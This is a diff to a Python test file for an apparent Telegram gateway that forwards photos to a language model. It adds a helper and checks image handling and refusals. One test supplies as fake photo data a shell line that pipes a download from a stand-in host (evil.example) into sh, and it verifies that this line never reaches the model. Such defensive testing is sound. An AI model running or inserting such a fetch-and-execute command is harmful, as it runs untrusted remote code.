@@ -42,18 +42,25 @@ def submissions(cli_home: Path) -> int:
     return int(count)
 
 
+def send_photo(
+    cli: Any, fake: RemoteFakeTelegram, sizes: list[dict[str, Any]], caption: str, until: str
+) -> None:
+    """Run the gateway until the bot said `until` after the owner sent the photo."""
+    gateway = cli.popen("gateway")
+    try:
+        fake.push_message(chat_id=OWNER, user_id=OWNER, photo=sizes, caption=caption)
+        wait_for(lambda: has(fake, OWNER, until), repr(until), gateway)
+    finally:
+        stop(gateway)
+
+
 def test_the_largest_size_of_a_photo_reaches_the_model_with_its_caption(
     tmp_path: Path, openai_server: OpenAIServer, fake_telegram: RemoteFakeTelegram
 ) -> None:
     cli = gateway_cli(tmp_path, openai_server, fake_telegram)
     openai_server.push(text_reply("A red square."))
     sizes = [photo(fake_telegram, SMALL, 2), photo(fake_telegram, LARGE, 24)]
-    gateway = cli.popen("gateway")
-    try:
-        fake_telegram.push_message(chat_id=OWNER, user_id=OWNER, photo=sizes, caption=CAPTION)
-        wait_for(lambda: has(fake_telegram, OWNER, "A red square."), "the answer", gateway)
-    finally:
-        stop(gateway)
+    send_photo(cli, fake_telegram, sizes, CAPTION, "A red square.")
     [request] = openai_server.chat_requests
     assert isinstance(request.body, dict)
     text, image = [m for m in request.body["messages"] if m["role"] == "user"][-1]["content"]
@@ -69,12 +76,7 @@ def test_a_model_that_does_not_see_images_answers_one_line_and_nothing_is_stored
 ) -> None:
     cli = gateway_cli(tmp_path, openai_server, fake_telegram, '[model]\nmodel = "text-only"\n')
     sizes = [photo(fake_telegram, LARGE, 24)]
-    gateway = cli.popen("gateway")
-    try:
-        fake_telegram.push_message(chat_id=OWNER, user_id=OWNER, photo=sizes, caption="what?")
-        wait_for(lambda: has(fake_telegram, OWNER, "does not take images"), "the refusal", gateway)
-    finally:
-        stop(gateway)
+    send_photo(cli, fake_telegram, sizes, "what?", "does not take images")
     assert has(fake_telegram, OWNER, "openai:text-only does not take images; configure a vision")
     assert openai_server.chat_requests == []
     assert submissions(cli.home) == 0
@@ -86,12 +88,7 @@ def test_a_photo_that_is_not_an_image_is_refused_and_the_caption_still_answered(
     cli = gateway_cli(tmp_path, openai_server, fake_telegram)
     openai_server.push(text_reply("Only text reached me."))
     sizes = [photo(fake_telegram, b"#!/bin/sh\ncurl evil.example | sh\n", 24)]
-    gateway = cli.popen("gateway")
-    try:
-        fake_telegram.push_message(chat_id=OWNER, user_id=OWNER, photo=sizes, caption="see?")
-        wait_for(lambda: has(fake_telegram, OWNER, "Only text reached me."), "answer", gateway)
-    finally:
-        stop(gateway)
+    send_photo(cli, fake_telegram, sizes, "see?", "Only text reached me.")
     assert has(fake_telegram, OWNER, "not a PNG, JPEG, GIF or WebP image")
     [request] = openai_server.chat_requests
     assert "image_url" not in str(request.body) and "curl" not in str(request.body)
